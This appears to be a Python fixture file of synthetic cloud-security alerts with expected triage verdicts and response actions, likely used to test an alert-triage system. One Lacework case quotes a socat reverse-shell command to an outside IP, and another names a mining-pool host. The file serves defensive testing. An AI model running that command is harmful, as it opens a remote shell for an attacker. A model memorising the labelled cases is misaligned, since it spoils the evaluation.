"""Expansion split, part 5: cloud posture and detection (Orca, Lacework, Prisma Cloud, Panther), Azure activity
logs and Kubernetes audit events."""

from __future__ import annotations

from typing import Any

from tests.data.triage.expansion_common import BEN, BRUTE, EXFIL, GENERIC, MAL, MALWARE, SUS, Expected, alert
from tests.data.triage.labels import Case


def orca(
    n: int, alert_type: str, severity_name: str, asset: str, description: str, expected: Expected, category: str
) -> Case:
    raw = {
        "alert_id": f"orca-{4400 + n}",
        "type": alert_type,
        "category": category,
        "asset_name": asset,
        "cloud_provider": "aws",
        "state": {"severity": severity_name, "status": "open"},
        "description": description,
    }
    severity = {"compromised": "critical", "imminent compromise": "high", "hazardous": "medium"}.get(
        severity_name, "low"
    )
    return alert(
        f"exp-orca-{n:03d}",
        "Orca Security",
        expected,
        f"Orca: {alert_type} on {asset}",
        description,
        severity,
        "orca",
        raw,
        systems=[asset],
    )


def lacework(n: int, event_type: str, summary: str, severity_level: int, expected: Expected, **extra: Any) -> Case:
    raw = {
        "event_id": 61000 + n,
        "event_type": event_type,
        "summary": summary,
        "severity": severity_level,
        "event_category": extra.pop("category", "Cloud"),
        **extra,
    }
    severity = {1: "critical", 2: "high", 3: "medium"}.get(severity_level, "low")
    return alert(f"exp-lacework-{n:03d}", "Lacework", expected, None, None, severity, "lacework", raw)


POSTURE = [
    orca(
        1,
        "Asset communicating with a known mining pool",
        "compromised",
        "i-0c41a9e7f2d3b8a15 (ami-build-07)",
        "Outbound connections to pool.hashvault.pro:443 and a binary /tmp/.X11/xmr in the instance snapshot.",
        (MAL, MALWARE, ["isolate_host"]),
        "Malware",
    ),
    orca(
        2,
        "Publicly readable S3 bucket contains PII",
        "imminent compromise",
        "fhe-customer-exports",
        "Bucket policy allows s3:GetObject to '*'; side-scanning found 12 CSV files with names, addresses and "
        "IBANs. Access logs show GETs from 3 unknown IPs this week.",
        (MAL, EXFIL, ["notify"]),
        "Data at risk",
    ),
    orca(
        3,
        "Unused IAM access key older than 365 days",
        "informational",
        "iam-user/legacy-reporting",
        "Key last used 412 days ago.",
        (BEN, GENERIC, []),
        "IAM misconfigurations",
    ),
    orca(
        4,
        "Internet-facing VM with exploitable RCE vulnerability",
        "hazardous",
        "fhe-gis-viewer",
        "GeoServer 2.23.1 (CVE-2024-36401) reachable from the internet; no sign of exploitation in logs yet.",
        (SUS, GENERIC, []),
        "Vulnerabilities",
    ),
    lacework(
        1,
        "CloudActivity: Potentially Compromised AWS Keys",
        "Access key of IAM user terraform-ci used from a Tor exit node to call GetCallerIdentity, "
        "ListUsers and CreateAccessKey.",
        1,
        (MAL, GENERIC, ["disable_user", "block_ip"]),
    ),
    lacework(
        2,
        "NewExternalServerDNSConn",
        "fhe-ingest-3 resolved api.openweathermap.org for the first time.",
        4,
        (BEN, GENERIC, []),
        category="App",
    ),
    lacework(
        3,
        "Suspicious Application Launched",
        "/usr/bin/socat launched in container fhe-api-7d9c by user www-data with arguments "
        "'exec:bash -li,pty,stderr tcp:194.87.218.30:9001'.",
        2,
        (MAL, MALWARE, ["isolate_host", "block_ip"]),
        category="App",
    ),
]


def prisma(
    n: int, policy: str, policy_type: str, resource: str, description: str, expected: Expected, severity: str
) -> Case:
    raw = {
        "alertId": f"P-{280000 + n}",
        "policyName": policy,
        "policyType": policy_type,
        "severity": severity,
        "resourceName": resource,
        "accountName": "fhe-prod",
        "cloudType": "aws",
        "alertStatus": "open",
        "policyDescription": description,
    }
    return alert(
        f"exp-prisma-{n:03d}",
        "Prisma Cloud",
        expected,
        f"Prisma Cloud alert: {policy}",
        f"{description} Resource: {resource}.",
        severity,
        "prisma_cloud",
        raw,
    )


def panther(
    n: int, rule: str, title: str, log_type: str, context: dict[str, Any], expected: Expected, severity: str
) -> Case:
    raw = {
        "id": rule,
        "name": rule,
        "type": "RULE",
        "severity": severity.upper(),
        "title": title,
        "logTypes": [log_type],
        "alertContext": context,
        "link": f"https://fernhill.runpanther.net/alerts/{n}",
    }
    return alert(
        f"exp-panther-{n:03d}",
        "Panther",
        expected,
        title,
        f"Panther rule {rule} on {log_type} logs: {title}.",
        severity,
        "panther",
        raw,
    )


DETECTION = [
    prisma(
        1,
        "Excessive login failures",
        "anomaly",
        "console-login/acct-fhe-prod",
        "1,120 failed console logins for 40 IAM users from 3 IPs in a hosting range within an hour.",
        (MAL, BRUTE, ["block_ip"]),
        "high",
    ),
    prisma(
        2,
        "AWS Security Group allows all traffic on RDP port (3389)",
        "config",
        "sg-0d5e7a9b1c (jump-legacy)",
        "Inbound 0.0.0.0/0 on 3389 for an instance that is stopped.",
        (BEN, GENERIC, []),
        "medium",
    ),
    prisma(
        3,
        "Unusual user activity",
        "anomaly",
        "iam-user/d.kaminski",
        "The user downloaded 41 GB from the data-lake bucket through the CLI from a country never seen before.",
        (SUS, EXFIL, ["notify"]),
        "high",
    ),
    prisma(
        4,
        "Network reconnaissance",
        "anomaly",
        "i-07a1b2c3d4e5f6a7b (fhe-web-legacy)",
        "The instance opened connections to 2,400 internal addresses on 22/445/3389 in 5 minutes.",
        (MAL, GENERIC, ["isolate_host"]),
        "high",
    ),
    panther(
        1,
        "GitHub.Repo.VisibilityChange",
        "Repository fernhill/grid-forecasting made public by o.quist",
        "GitHub.Audit",
        {
            "repo": "fernhill/grid-forecasting",
            "actor": "o.quist",
            "visibility": "public",
            "contains": "internal models and a .env with database credentials",
        },
        (SUS, EXFIL, ["notify", "reset_credentials"]),
        "high",
    ),
    panther(
        2,
        "Box.Large.Download",
        "h.faulkner downloaded 3,900 files from Box in 20 minutes",
        "Box.Event",
        {
            "user": "h.faulkner",
            "files": 3900,
            "folder": "Legal/Disputes",
            "note": "last day is Friday",
            "ip": "98.47.11.201",
        },
        (MAL, EXFIL, ["disable_user", "notify"]),
        "high",
    ),
    panther(
        3,
        "AWS.CloudTrail.IAMAssumeRoleBlacklistIgnored",
        "Role assumed by the backup vendor's account",
        "AWS.CloudTrail",
        {
            "role": "fhe-backup-vendor-readonly",
            "sourceAccount": "609876543210",
            "note": "listed vendor account, daily snapshot copy",
        },
        (BEN, GENERIC, []),
        "low",
    ),
]


def azure_activity(
    n: int, operation: str, caller: str, ip: str, resource: str, detail: str, expected: Expected, severity: str
) -> Case:
    raw = {
        "operationName": {"value": operation},
        "caller": caller,
        "httpRequest": {"clientIpAddress": ip},
        "status": {"value": "Succeeded"},
        "category": {"value": "Administrative"},
        "level": "Informational",
        "resourceId": resource,
        "subscriptionId": "5b1f0c2e-8d41-4a77-9f0a-2c3e4d5f6a7b",
    }
    return alert(
        f"exp-azact-{n:03d}",
        "Azure Activity Log",
        expected,
        f"Azure activity: {operation}",
        detail,
        severity,
        "azure_activity",
        raw,
    )


def k8s_audit(
    n: int,
    verb: str,
    resource: str,
    name: str,
    username: str,
    source_ip: str,
    detail: str,
    expected: Expected,
    severity: str,
    code: int = 201,
) -> Case:
    raw = {
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "level": "RequestResponse",
        "stage": "ResponseComplete",
        "verb": verb,
        "user": {"username": username},
        "sourceIPs": [source_ip],
        "objectRef": {"resource": resource, "name": name},
        "responseStatus": {"code": code},
    }
    return alert(
        f"exp-k8saudit-{n:03d}",
        "Kubernetes audit log",
        expected,
        f"k8s audit: {verb} {resource}/{name}",
        detail,
        severity,
        "kubernetes_audit",
        raw,
    )


PLATFORM = [
    azure_activity(
        1,
        "Microsoft.Compute/snapshots/beginGetAccess/action",
        "guest-contractor@fhe.onmicrosoft.com",
        "45.92.158.11",
        "/subscriptions/.../snapshots/sql-prod-osdisk-snap",
        "A SAS download URL was generated for the production SQL disk snapshot by a guest account that "
        "was invited yesterday.",
        (MAL, EXFIL, ["disable_user", "block_ip"]),
        "critical",
    ),
    azure_activity(
        2,
        "Microsoft.Compute/virtualMachines/delete",
        "terraform-sp",
        "20.50.2.14",
        "/subscriptions/.../virtualMachines/fhe-test-vm-04",
        "Pipeline teardown of the test environment.",
        (BEN, GENERIC, []),
        "low",
    ),
    azure_activity(
        3,
        "Microsoft.Authorization/roleAssignments/write",
        "s.whitcombe@fernhill-energy.com",
        "102.132.99.7",
        "/subscriptions/5b1f0c2e-8d41-4a77-9f0a-2c3e4d5f6a7b",
        "Owner granted at subscription scope to a newly created service principal, from an address "
        "the user has never signed in from.",
        (MAL, GENERIC, ["disable_user", "reset_credentials"]),
        "high",
    ),
    k8s_audit(
        1,
        "create",
        "clusterrolebindings",
        "cluster-admin-debug",
        "system:serviceaccount:default:default",
        "10.40.3.17",
        "The default service account bound itself cluster-admin; the request came from a pod "
        "running an image that was not built by our CI.",
        (MAL, GENERIC, ["isolate_host"]),
        "critical",
    ),
    k8s_audit(
        2,
        "get",
        "secrets",
        "stripe-live-key",
        "system:anonymous",
        "91.240.118.172",
        "Anonymous request to the API server from the internet; forbidden.",
        (SUS, GENERIC, ["block_ip"]),
        "medium",
        code=403,
    ),
    k8s_audit(
        3,
        "create",
        "pods/exec",
        "orders-api-5c9d7",
        "e.varga@fernhill-energy.com",
        "10.20.5.9",
        "kubectl exec by an on-call engineer during INC-55107.",
        (BEN, GENERIC, []),
        "low",
    ),
]


CASES = [*POSTURE, *DETECTION, *PLATFORM]
